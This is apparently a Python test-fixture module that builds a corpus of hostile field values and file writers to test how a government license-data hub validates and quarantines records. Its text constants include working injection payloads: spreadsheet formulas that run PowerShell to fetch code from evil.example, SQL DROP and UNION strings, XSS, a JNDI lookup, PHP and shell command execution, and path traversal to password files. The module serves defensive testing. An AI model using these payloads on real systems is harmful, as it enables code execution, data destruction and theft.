"""The hostile-input corpus, generated (never hand-copied): field cases and file cases.

- :func:`field_cases` — one hostile value in one column of an otherwise good license
  record (identifier checks failing, dates and numbers at their boundaries, oversize
  and garbled text, control characters, formula / SQL / script / path strings, and,
  for JSON sources, values of the wrong type). Each says whether the normalize stage
  must quarantine the record (and on which canonical field) or keep it as inert text.
- the writers of those records as a department would send them (CSV, XML, XLSX,
  a REST API's JSON); the file cases (:mod:`tests.security.corpus_files`) use them.

Everything is built from a few real identifiers by the standards' own check-character
rules (STANDARDS.md), so a case that claims "check character wrong" is wrong by
exactly one character. The module does no I/O.
"""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Iterator, Sequence
from dataclasses import dataclass, field
from typing import Any, Literal

from ehub import identifiers

ISSUER = "11370800MB28559184"
HOLDER = "91370000163044841F"
TYPE_CODE = "11100000000013338W001"
DIVISION = "370102"
#: A canary outside every drop folder: its content must never reach the hub store.
CANARY = "EHUB-CANARY-7f3c"

#: Source columns of the corpus sources and the canonical field each maps to.
TARGET: dict[str, str] = {
    "ZCH": "ZZBH",
    "DJJG": "ZZBFJG",
    "DJJGDM": "ZZBFJGDM",
    "FZRQ": "ZZBFRQ",
    "CLRQ": "ZZYXQQSRQ",
    "YYQXZ": "ZZYXQJZRQ",
    "QYMC": "CZZT",
    "LX": "CZZTDMLXDM",
    "TYSHXYDM": "CZZTDM",
    "XZQHDM": "CZZTQHDM",
    "JLZT": "ZZZT",
    "FDDBR": "KZ_FDDBR",
    "ZS": "KZ_ZS",
    "JYFW": "KZ_JYFW",
    "ZZBS": "ZZBS",
    "BBH": "BBH",
}
COLUMNS: tuple[str, ...] = ("ID", *TARGET)


def spec_dict(source: str, kind: str, connection: str, **extra: Any) -> dict[str, Any]:
    """A license source spec over :data:`COLUMNS` (strict contract: every column
    present, no other)."""
    mapping: dict[str, Any] = {
        "ZZBH": {"from": "ZCH"},
        "ZZBFJG": {"from": "DJJG"},
        "ZZBFJGDM": {"from": "DJJGDM", "transform": ["trim", "halfwidth", "upper"]},
        "ZZBFRQ": {"from": "FZRQ", "date": ["%Y-%m-%d", "%Y%m%d"]},
        "ZZYXQQSRQ": {"from": "CLRQ", "date": ["%Y-%m-%d", "%Y%m%d"]},
        "ZZYXQJZRQ": {"from": "YYQXZ", "date": ["%Y-%m-%d", "%Y%m%d"], "long_term": ["长期"]},
        "CZZT": {"from": "QYMC"},
        "CZZTDMLXDM": {"from": "LX"},
        "CZZTDM": {"from": "TYSHXYDM", "transform": ["trim", "halfwidth", "upper"]},
        "CZZTQHDM": {"from": "XZQHDM"},
        "ZZZT": {"from": "JLZT", "codelist": "jlzt"},
        "KZ_FDDBR": {"from": "FDDBR"},
        "KZ_ZS": {"from": "ZS"},
        "KZ_JYFW": {"from": "JYFW"},
        "ZZBS": {"from": "ZZBS"},
        "BBH": {"from": "BBH", "integer": True},
    }
    return {
        "department": {"code": "security", "name": "安全测试厅"},
        "source": source,
        "kind": kind,
        "connection": connection,
        "record_kind": "license",
        "license_type": "营业执照",
        "key": "ID",
        "contract": {"unknown_fields": "reject", "missing_fields": "reject"},
        "codelists": {"jlzt": {"1": "valid", "2": "revoked", "3": "cancelled"}},
        "mapping": mapping,
        **extra,
    }


def good_record(key: str) -> dict[str, str]:
    """A record that normalizes; ``key`` makes its key and license number unique."""
    return {
        "ID": key,
        "ZCH": f"ZCH-{key}",
        "DJJG": "济南市市场监督管理局",
        "DJJGDM": ISSUER,
        "FZRQ": "2023-05-06",
        "CLRQ": "2023-05-06",
        "YYQXZ": "长期",
        "QYMC": f"济南{key}有限公司",
        "LX": "001",
        "TYSHXYDM": HOLDER,
        "XZQHDM": DIVISION,
        "JLZT": "1",
        "FDDBR": "沈博静",
        "ZS": "济南市历下区经十路55号",
        "JYFW": "软件开发",
        "ZZBS": "",
        "BBH": "",
    }


Expect = Literal["quarantine", "keep"]


@dataclass(frozen=True)
class FieldCase:
    """One hostile value in ``column`` of a good record."""

    name: str
    category: str
    column: str
    value: Any
    expect: Expect
    extra: dict[str, Any] = field(default_factory=dict)
    """Other columns set with it (a citizen ID needs holder code type 111)."""
    verbatim: bool = False
    """``keep``: the stored canonical value equals the value (trimmed)."""
    paths: frozenset[str] = frozenset({"csv", "sql", "rest", "xml", "xlsx"})
    """Intake paths that can carry the value (XML 1.0 and XLSX cannot hold control
    characters; only JSON carries typed values)."""

    @property
    def target(self) -> str:
        return TARGET.get(self.column, self.column)

    def record(self, key: str) -> dict[str, Any]:
        rec: dict[str, Any] = good_record(key)
        rec.update(self.extra)
        rec[self.column] = self.value
        return rec


# ---------------------------------------------------------------- identifiers


def _uscc(first17: str) -> str:
    return first17 + identifiers.uscc_check_char(first17)


def _wrong_last(value: str, alphabet: str, k: int) -> list[str]:
    """``value`` with its check character replaced by ``k`` wrong ones of ``alphabet``."""
    return [value[:-1] + c for c in alphabet if c != value[-1]][:k]


def _citizen_id(body17: str) -> str:
    return body17 + identifiers.citizen_id_check_char(body17)


def _license_id(serial: str, version: str = "001") -> str:
    return identifiers.make_license_identifier(TYPE_CODE, ISSUER, serial, version)


USCC_CHARS = "0123456789ABCDEFGHJKLMNPQRTUWXY"


def _identifier_cases() -> Iterator[FieldCase]:
    q: Expect = "quarantine"
    for col, code in (("TYSHXYDM", HOLDER), ("DJJGDM", ISSUER)):
        for bad in _wrong_last(code, USCC_CHARS, 6):
            yield FieldCase(f"uscc check {col} {bad}", "uscc", col, bad, q)
        for bad in (
            code[:17],
            code + "0",
            code[:5] + "I" + code[6:],
            code[:5] + "O" + code[6:],
            code[:5] + "S" + code[6:],
            code[:5] + "V" + code[6:],
            code[:5] + "Z" + code[6:],
            code[:9] + "-" + code[10:],
            "=" + code[1:],
        ):
            yield FieldCase(f"uscc format {col} {bad}", "uscc", col, bad, q)
    # a USCC whose 18th character verifies but whose organization-code body does not
    body = "1630448" + "4" + "2"  # GB 11714 check of 16304484 is 1, not 2
    yield FieldCase("uscc org-code body", "uscc", "TYSHXYDM", _uscc("91370000" + body), q)
    yield FieldCase("uscc lower case", "uscc", "TYSHXYDM", HOLDER.lower(), "keep")
    yield FieldCase(
        "uscc full width",
        "uscc",
        "TYSHXYDM",
        HOLDER.translate({c: c + 0xFEE0 for c in range(0x21, 0x7F)}),
        "keep",
    )
    person = {"LX": "111"}
    good_id = _citizen_id("37010219900307123")
    for bad in _wrong_last(good_id, "0123456789X", 5):
        yield FieldCase(f"citizen id check {bad}", "citizen_id", "TYSHXYDM", bad, q, person)
    for body in (
        "37010219990230123",
        "37010220231301123",
        "37010218000229123",
        "37010219900000123",
        "37010219901232123",
    ):
        yield FieldCase(
            f"citizen id date {body}", "citizen_id", "TYSHXYDM", _citizen_id(body), q, person
        )
    for bad in (
        "370102900307123",
        good_id[:17],
        good_id + "1",
        "37010219900307123A",
        "X70102199003071234",
        "３７０１０２",
    ):
        yield FieldCase(f"citizen id format {bad}", "citizen_id", "TYSHXYDM", bad, q, person)
    yield FieldCase(
        "citizen id lower x",
        "citizen_id",
        "TYSHXYDM",
        _citizen_id("11010519491231002").lower(),
        "keep",
        person,
    )
    yield FieldCase("holder code type unknown", "code", "LX", "998", q)
    # Pure normalization has no clock: a birth date after the data interval is only
    # caught where the interval is known (identifiers.check_citizen_id(as_of=...)).
    yield FieldCase(
        "citizen id born in 2999",
        "citizen_id",
        "TYSHXYDM",
        _citizen_id("37010229990101123"),
        "keep",
        person,
    )
    for bad in (
        "379999",
        "000000",
        "37010",
        "3701021",
        "37O102",
        "999999",
        "370102999999",
        "-370102",
        "３７０１０２",
        "370102\u200b",
    ):
        yield FieldCase(f"division {bad!r}", "division", "XZQHDM", bad, q)
    good_lic = _license_id("SEC0000001")
    for bad in _wrong_last(good_lic, "0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZ", 5):
        yield FieldCase(f"license id check {bad[-3:]}", "license_id", "ZZBS", bad, q)
    for i, bad in enumerate(
        (
            good_lic.replace("1.2.156.3005.2", "1.2.156.3005.9"),
            good_lic[:-6] + "01.0",
            good_lic.replace("SEC0000001", "S" * 33),
            good_lic + ".",
            good_lic.replace(".", "..", 1),
            good_lic.replace("SEC", "SE C"),
            "1.2.156.3005.2",
            "../../" + good_lic,
        )
    ):
        yield FieldCase(f"license id format {i}", "license_id", "ZZBS", bad, q)


# ---------------------------------------------------------------- dates and numbers


def _boundary_cases() -> Iterator[FieldCase]:
    q: Expect = "quarantine"
    for bad in (
        "2023-02-29",
        "2023-04-31",
        "2023-13-01",
        "2023-00-10",
        "2023-12-32",
        "0000-01-01",
        "10000-01-01",
        "99999999",
        "2023/05/06",
        "NaN",
        "-2023-01-01",
        "2023-05-06T00:00:00",
        "20230229",
        "2023-5-6 25:61:61x",
        "1e10",
    ):
        yield FieldCase(f"date {bad!r}", "date", "FZRQ", bad, q)
    # Unicode decimal digits (full-width, mathematical) are digits: the same date
    for ok in (
        "2024-02-29",
        "20240229",
        "0001-01-01",
        "9999-12-31",
        "1970-01-01",
        "2023-5-6",
        "２０２３-05-06",
        "𝟐𝟎𝟐𝟑-05-06",
    ):
        yield FieldCase(f"date boundary {ok}", "date", "FZRQ", ok, "keep")
    yield FieldCase("validity ends before it starts", "date", "YYQXZ", "2023-05-05", q)
    yield FieldCase("validity end 9999-12-31", "date", "YYQXZ", "9999-12-31", "keep")
    for bad in (
        "2147483648",
        "-1",
        "9" * 30,
        "9" * 5000,
        "1e5",
        "NaN",
        "inf",
        "1.5",
        "0x10",
        str(2**63),
        str(2**64),
    ):
        yield FieldCase(f"version {len(bad)}:{bad[:24]!r}", "number", "BBH", bad, q)
    for ok in ("1", "2147483647", " 7 ", "0", "-0"):
        yield FieldCase(f"version boundary {ok!r}", "number", "BBH", ok, "keep")


# ---------------------------------------------------------------- text


FORMULAS = (
    "=CMD|' /C calc'!A0",
    "=cmd|'/c powershell IEX(wget evil.example/x)'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    '=HYPERLINK("http://evil.example/?x="&A1,"点击")',
    '=WEBSERVICE("http://evil.example")',
    "=1+1",
    "@cmd",
    '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
)
SQL_LIKE = (
    "'; DROP TABLE raw_records; --",
    "1' OR '1'='1",
    '" OR ""="',
    "Robert'); DELETE FROM quarantine; --",
    "1; UPDATE licenses SET status='valid'",
    "' UNION SELECT password FROM pg_shadow --",
    "$$; DROP TABLE sources; $$",
    "%' AND 1=1 --",
    "\\'; SELECT pg_sleep(10); --",
    "admin'/*",
)
SCRIPT_LIKE = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(document.cookie)>',
    "javascript:alert(1)",
    "{{7*7}}",
    "${jndi:ldap://evil.example/a}",
    "%s%s%s%n",
    "{0.__class__.__mro__}",
    "<?php system('id'); ?>",
    '<!--#exec cmd="id"-->',
    "`rm -rf /`",
)
PATHS = (
    "../../../../etc/passwd",
    "..\\..\\..\\windows\\win.ini",
    "/etc/shadow",
    "file:///etc/passwd",
    "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "....//....//etc/passwd",
)
CONTROL = ("\x00", "\x01", "\x07", "\x08", "\x0b", "\x0c", "\x1b[31m", "\x7f")


def _text_cases() -> Iterator[FieldCase]:
    q: Expect = "quarantine"
    cols = ("QYMC", "ZS", "JYFW", "FDDBR", "ZCH")
    for i, f in enumerate(FORMULAS):
        yield FieldCase(
            f"formula {f[:20]!r}", "formula", cols[i % len(cols)], f, "keep", verbatim=True
        )
    for i, s in enumerate(SQL_LIKE):
        yield FieldCase(f"sql {s[:20]!r}", "sql", cols[i % len(cols)], s, "keep", verbatim=True)
    for i, s in enumerate(SCRIPT_LIKE):
        yield FieldCase(
            f"script {s[:20]!r}", "script", cols[i % len(cols)], s, "keep", verbatim=True
        )
    for i, s in enumerate(PATHS):
        yield FieldCase(f"path {s[:20]!r}", "path", ("ZS", "JYFW")[i % 2], s, "keep", verbatim=True)
    no_markup = frozenset({"csv", "sql", "rest"})
    for c in CONTROL:
        yield FieldCase(
            f"control {c!r} in name", "control", "QYMC", f"济南{c}公司", q, paths=no_markup
        )
    for c in ("\u2028", "\u202e", "\ufeff", "\u200b"):
        yield FieldCase(f"format char {c!r}", "control", "ZS", f"济南{c}历下", "keep")
    for bad in ("锟斤拷锟斤拷", "æµŽå\u008d—", "济南\ufffd公司", "Ð¡Ð¸Ð½", "Ã¤Ã¶"):
        yield FieldCase(f"mojibake {bad[:8]!r}", "encoding", "QYMC", bad, q)
    for col, n in (("QYMC", 201), ("DJJG", 201), ("ZS", 10_000), ("JYFW", 100_000), ("ZCH", 1000)):
        yield FieldCase(f"oversize {col} {n}", "oversize", col, "长" * n, q)
    # a file path refuses a file this size whole (the file cases); a database or an API
    # hands it over as one value
    yield FieldCase(
        "oversize JYFW 1000000",
        "oversize",
        "JYFW",
        "长" * 1_000_000,
        q,
        paths=frozenset({"sql", "rest"}),
    )
    yield FieldCase("oversize key", "oversize", "ID", "K" * 250, "keep")
    yield FieldCase("NUL in the record key", "control", "ID", "k\x00nul", "keep", paths=no_markup)
    for col in ("ZCH", "DJJG", "QYMC"):
        yield FieldCase(f"required {col} blank", "required", col, "   ", q)
    for bad in ("9", "", "１", "1 OR 1=1"):
        yield FieldCase(f"status code {bad!r}", "code", "JLZT", bad, q)
    json_only = frozenset({"rest"})
    for i, v in enumerate((123, True, None, ["a", "b"], {"$gt": ""}, 1e308, {"a": {"b": [1]}})):
        yield FieldCase(f"typed uscc {v!r:.20}", "typed", "TYSHXYDM", v, q, paths=json_only)
        yield FieldCase(f"typed date {v!r:.20}", "typed", "FZRQ", v, q, paths=json_only)
        if i < 2:  # numbers and booleans read as their text: a name that is a number
            yield FieldCase(f"typed name {v!r:.20}", "typed", "ZS", v, "keep", paths=json_only)


def field_cases() -> list[FieldCase]:
    """Every field case, with unique names."""
    cases = [*_identifier_cases(), *_boundary_cases(), *_text_cases()]
    names = [c.name for c in cases]
    assert len(names) == len(set(names)), "field case names must be unique"
    return cases


# ---------------------------------------------------------------- files


def csv_bytes(records: Sequence[dict[str, Any]], *, encoding: str = "utf-8") -> bytes:
    buf = io.StringIO()
    w = csv.writer(buf)
    w.writerow(COLUMNS)
    for r in records:
        w.writerow([r.get(c, "") for c in COLUMNS])
    return buf.getvalue().encode(encoding)


def _xml_escape(v: Any) -> str:
    s = "" if v is None else str(v)
    return s.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")


def xml_text(
    records: Sequence[dict[str, Any]],
    *,
    decl: str | None = "UTF-8",
    inject: str = "",
    prolog: str = "",
    wrap: tuple[str, str] = ("", ""),
) -> str:
    """``inject`` goes inside the first record; ``prolog`` between declaration and root."""
    recs = []
    for i, r in enumerate(records):
        inner = "".join(f"<{c}>{_xml_escape(r.get(c, ''))}</{c}>" for c in COLUMNS)
        recs.append(f"<Record>{inner}{inject if i == 0 else ''}</Record>")
    head = f'<?xml version="1.0" encoding="{decl}"?>\n' if decl else ""
    return f"{head}{prolog}<Root>{wrap[0]}{''.join(recs)}{wrap[1]}</Root>\n"


def xlsx_bytes(
    records: Sequence[dict[str, Any]], *, header: Sequence[str] = COLUMNS, extra: Sequence[str] = ()
) -> bytes:
    """``extra``: columns written right of the header, without a header cell."""
    from openpyxl import Workbook

    wb = Workbook()
    ws = wb.active
    assert ws is not None
    ws.append(list(header))
    for n, r in enumerate(records, start=2):
        for col, name in enumerate((*header, *extra), start=1):
            cell = ws.cell(n, col, r.get(name, ""))
            if isinstance(cell.value, str):
                cell.data_type = "s"  # text that looks like a formula stays text
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


def good_records(prefix: str, n: int) -> list[dict[str, str]]:
    return [good_record(f"{prefix}{i}") for i in range(n)]


def rest_json(records: Sequence[dict[str, Any]]) -> bytes:
    return json.dumps({"data": {"items": list(records)}}, ensure_ascii=False).encode()
